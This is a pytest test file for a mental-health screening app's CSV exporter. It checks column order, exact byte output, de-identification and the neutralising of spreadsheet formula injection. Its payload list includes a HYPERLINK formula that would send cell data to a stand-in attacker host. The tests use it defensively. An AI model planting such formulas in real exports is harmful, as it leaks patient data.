"""The pure CSV row builder: columns from the instruments, bytes exactly as docs/export.md."""

from __future__ import annotations

import csv
import io
import json

import pytest

from screening.core import export_csv
from screening.core.export_csv import CsvLayout, layout
from screening.core.instruments import GAD7, PHQ9

INJECTION_PAYLOADS = [
    '=HYPERLINK("http://evil.example.com/?x="&A1,"Click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=cmd",
    "\r=cmd",
    "\n=cmd",
]

# Written out by hand from docs/export.md, not from the code.
HEADER = (
    "reference,submitted_at,first_name,last_name,date_of_birth,email,phone,"
    "phq9_1,phq9_2,phq9_3,phq9_4,phq9_5,phq9_6,phq9_7,phq9_8,phq9_9,phq9_total,phq9_severity,"
    "phq9_difficulty,phq9_item9_positive,gad7_1,gad7_2,gad7_3,gad7_4,gad7_5,gad7_6,gad7_7,"
    "gad7_total,gad7_severity,adequate_failed_trials,contraindications,cautions,fit,urgent,"
    "needs_medical_review,ruleset,review_status,acknowledged_at\r\n"
)
IDENTIFYING_HEADER = "first_name,last_name,date_of_birth,email,phone,"


def response(values: tuple[int, ...], difficulty: int | None = None) -> str:
    """A stored response's answers JSON, keyed by item key."""
    answers = {str(n): v for n, v in enumerate(values, 1)}
    if difficulty is not None:
        answers["10"] = difficulty
    return json.dumps(answers)


def source(**overrides: object) -> tuple[object, ...]:
    """``SUBMISSION_FIELDS`` then ``RESPONSE_FIELDS`` per instrument, as the database hands
    them over."""
    values: dict[str, object] = {
        "reference": "ABCD-EFGH",
        "submitted_at": "2026-03-04T05:06:07Z",
        "first_name": "Alex",
        "last_name": "Testperson",
        "date_of_birth": "1984-06-14",
        "email": "alex.testperson@example.com",
        "phone": "555 010 4477",
        "adequate_failed_trials": 2,
        "contraindications": "[]",
        "cautions": '["mania", "pregnancy"]',
        "fit": "likely_fit",
        "urgent": True,
        "needs_medical_review": True,
        "ruleset": "v1",
        "review_status": "new",
        "acknowledged_at": None,
        "phq9": (response((1, 1, 3, 1, 1, 1, 1, 1, 1), difficulty=2), 11, "moderate"),
        "gad7": (response((1, 0, 1, 1, 1, 1, 1)), 6, "mild"),
    }
    values.update(overrides)
    phq9, gad7 = values.pop("phq9"), values.pop("gad7")
    assert list(values) == list(export_csv.SUBMISSION_FIELDS)
    return (*values.values(), *phq9, *gad7)  # type: ignore[misc]


def cells(**overrides: object) -> dict[str, object]:
    return dict(zip(export_csv.COLUMNS, export_csv.row(source(**overrides)), strict=True))


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_header_is_byte_for_byte_as_documented():
    assert export_csv.text([export_csv.columns()]) == HEADER
    deidentified = HEADER.replace(IDENTIFYING_HEADER, "")
    assert export_csv.text([export_csv.columns(deidentified=True)]) == deidentified


def test_the_source_is_the_submission_fields_then_three_per_instrument():
    assert export_csv.RESPONSE_FIELDS == ("answers", "total", "band")
    assert export_csv.INTAKE.source_width == len(export_csv.SUBMISSION_FIELDS) + 6
    assert {"date_of_birth"} == set(export_csv.DATE_FIELDS)
    assert {"submitted_at", "acknowledged_at"} == set(export_csv.TIME_FIELDS)
    assert {"contraindications", "cautions", "answers"} == set(export_csv.JSON_FIELDS)


def test_the_columns_of_one_instrument_come_from_its_definition():
    assert export_csv.instrument_columns(PHQ9) == (
        *(f"phq9_{n}" for n in range(1, 10)), "phq9_total", "phq9_severity", "phq9_difficulty",
        "phq9_item9_positive",
    )
    assert export_csv.instrument_columns(GAD7) == (
        *(f"gad7_{n}" for n in range(1, 8)), "gad7_total", "gad7_severity",
    )


def test_a_row_has_every_value_formatted_as_documented():
    row = cells()
    assert row["reference"] == "ABCD-EFGH"
    assert row["submitted_at"] == "2026-03-04T05:06:07Z"
    assert row["date_of_birth"] == "1984-06-14"
    assert row["phq9_3"] == 3 and row["phq9_9"] == 1 and row["gad7_2"] == 0
    assert (row["phq9_total"], row["phq9_severity"]) == (11, "moderate")
    assert (row["gad7_total"], row["gad7_severity"]) == (6, "mild")
    assert row["phq9_item9_positive"] == "true"
    assert row["phq9_difficulty"] == 2
    assert row["contraindications"] == ""
    assert row["cautions"] == "mania;pregnancy"
    assert row["urgent"] == "true" and row["needs_medical_review"] == "true"
    assert row["acknowledged_at"] is None  # written as an empty field


def test_an_unanswered_difficulty_is_an_empty_cell():
    row = cells(phq9=(response((0,) * 9), 0, "minimal"))
    assert row["phq9_difficulty"] is None


def test_item9_zero_is_false_and_sqlites_0_and_1_read_as_booleans():
    row = cells(phq9=(response((0,) * 9), 0, "minimal"), urgent=0, needs_medical_review=1)
    assert row["phq9_item9_positive"] == "false"
    assert row["urgent"] == "false" and row["needs_medical_review"] == "true"
    assert cells(urgent=False)["urgent"] == "false"


def test_the_answers_are_read_by_item_key_not_by_their_order_in_the_stored_json():
    answers = {str(n): n % 4 for n in range(1, 10)} | {"10": 3}
    reversed_json = json.dumps(dict(reversed(list(answers.items()))))
    row = cells(phq9=(reversed_json, 13, "moderate"))
    assert [row[f"phq9_{n}"] for n in range(1, 10)] == [n % 4 for n in range(1, 10)]
    assert row["phq9_difficulty"] == 3


def test_a_missing_response_gives_empty_cells_for_that_instrument_only():
    row = cells(gad7=(None, None, None))
    gad7 = export_csv.instrument_columns(GAD7)
    assert all(row[name] is None for name in gad7)
    assert row["phq9_total"] == 11 and row["adequate_failed_trials"] == 2
    row = cells(phq9=(None, None, None))
    assert all(row[name] is None for name in export_csv.instrument_columns(PHQ9))


def test_the_deidentified_row_is_the_full_row_without_the_identifying_cells():
    (full,) = export_csv.rows([source()])
    (short,) = export_csv.rows([source()], deidentified=True)
    assert short == tuple(
        cell for name, cell in zip(export_csv.COLUMNS, full, strict=True)
        if name not in export_csv.IDENTIFYING_COLUMNS
    )


@pytest.mark.parametrize("payload", INJECTION_PAYLOADS)
def test_text_that_a_spreadsheet_would_run_is_prefixed_with_a_quote(payload):
    row = export_csv.row(source(first_name=payload, last_name=payload, email=payload,
                                phone=payload))
    parsed = parse(export_csv.text([export_csv.columns(), row]))[1]
    written = dict(zip(export_csv.columns(), parsed, strict=True))
    for column in ("first_name", "last_name", "email", "phone"):
        assert written[column] == "'" + payload


def test_numbers_and_harmless_text_are_left_alone():
    assert export_csv.neutralise("Alex") == "Alex"
    assert export_csv.neutralise("O'Brien-Smith") == "O'Brien-Smith"
    assert export_csv.neutralise("a=b") == "a=b"
    assert export_csv.codes('["heart_disease"]') == "heart_disease"
    assert export_csv.codes("[]") == ""
    row = cells(phq9=(response((0,) * 9), 0, "minimal"), adequate_failed_trials=0)
    assert row["phq9_total"] == 0 and row["adequate_failed_trials"] == 0


def test_encoding_is_rfc_4180_with_crlf_and_quoted_commas_quotes_and_newlines():
    text = export_csv.text([["a,b", 'say "hi"', "two\nlines", 7, None]])
    assert text == '"a,b","say ""hi""","two\nlines",7,\r\n'
    assert parse(text) == [["a,b", 'say "hi"', "two\nlines", "7", ""]]


def test_a_source_with_a_field_missing_or_extra_is_refused_rather_than_shifted():
    with pytest.raises(ValueError):
        export_csv.row(source()[:-1])
    with pytest.raises(ValueError):
        export_csv.row((*source(), None))


TRICKY_SOURCES = (
    source(
        reference="TRKY-0001", submitted_at="2025-12-31T22:30:59Z",
        first_name='=HYPERLINK("http://x.example/?a=1")', last_name='Smith, "Jr"\nthe Second',
        date_of_birth="1901-01-02", email="-alex@example.com", phone="+1 555 0100",
        phq9=(response((3, 3, 3, 3, 3, 3, 3, 3, 2)), 26, "severe"),
        gad7=(response((3, 3, 3, 3, 3, 3, 0)), 18, "severe"),
        contraindications='["brain_bleed", "ketamine_allergy"]',
        cautions='["mania", "pregnancy"]', fit="possible_fit", urgent=True,
        needs_medical_review=True, review_status="in_review",
        acknowledged_at="2026-01-01T01:02:03Z",
    ),
    source(
        reference="TRKY-0002", submitted_at="2026-05-01T12:00:00Z", first_name="Zoë",
        last_name="Ñandú-Øre 山田", email="zoë@example.com", phone="@home\t1",
        phq9=(response((0,) * 9, difficulty=0), 0, "minimal"),
        gad7=(response((0,) * 7), 0, "minimal"), adequate_failed_trials=0, cautions="[]",
        fit="unlikely_fit", urgent=0, needs_medical_review=0,
    ),
)
# (start, identifying cells, rest) of each row, written out by hand from docs/export.md.
TRICKY_ROWS = (
    (
        "TRKY-0001,2025-12-31T22:30:59Z,",
        '"\'=HYPERLINK(""http://x.example/?a=1"")","Smith, ""Jr""\nthe Second",1901-01-02,'
        "'-alex@example.com,'+1 555 0100,",
        "3,3,3,3,3,3,3,3,2,26,severe,,true,3,3,3,3,3,3,0,18,severe,2,"
        "brain_bleed;ketamine_allergy,mania;pregnancy,possible_fit,true,true,v1,in_review,"
        "2026-01-01T01:02:03Z\r\n",
    ),
    (
        "TRKY-0002,2026-05-01T12:00:00Z,",
        "Zoë,Ñandú-Øre 山田,1984-06-14,zoë@example.com,'@home\t1,",
        "0,0,0,0,0,0,0,0,0,0,minimal,0,false,0,0,0,0,0,0,0,0,minimal,0,,,unlikely_fit,false,"
        "false,v1,new,\r\n",
    ),
)


def test_the_file_is_byte_for_byte_as_documented_for_tricky_rows():
    text = export_csv.text([export_csv.columns(), *export_csv.rows(TRICKY_SOURCES)])
    assert text.encode() == (HEADER + "".join("".join(r) for r in TRICKY_ROWS)).encode()


def test_the_deidentified_file_is_the_same_without_the_identifying_cells():
    text = export_csv.text([
        export_csv.columns(deidentified=True),
        *export_csv.rows(TRICKY_SOURCES, deidentified=True),
    ])
    header = HEADER.replace(IDENTIFYING_HEADER, "")
    rows = "".join(start + rest for start, _identifying, rest in TRICKY_ROWS)
    assert text.encode() == (header + rows).encode()


def test_a_layout_follows_the_order_of_its_instruments():
    gad7_first = layout(("gad7", "phq9"))
    assert gad7_first is layout(("gad7", "phq9"))  # built once
    assert gad7_first.columns[7:9] == ("gad7_1", "gad7_2")
    assert gad7_first.columns.index("gad7_severity") < gad7_first.columns.index("phq9_1")
    gad7, phq9 = TRICKY_SOURCES[0][-6:-3], TRICKY_SOURCES[0][-3:]
    swapped = (*TRICKY_SOURCES[0][:-6], *phq9, *gad7)
    row = dict(zip(gad7_first.columns, gad7_first.row(swapped), strict=True))
    assert row == dict(zip(export_csv.COLUMNS, export_csv.row(TRICKY_SOURCES[0]), strict=True))


def test_a_layout_of_one_instrument_has_only_its_columns():
    only_gad7 = CsvLayout([GAD7])
    assert [c for c in only_gad7.columns if c.startswith("phq9")] == []
    assert only_gad7.source_width == len(export_csv.SUBMISSION_FIELDS) + 3
    row = only_gad7.row((*TRICKY_SOURCES[1][:-6], *TRICKY_SOURCES[1][-3:]))
    assert row[7:16] == (0, 0, 0, 0, 0, 0, 0, 0, "minimal")
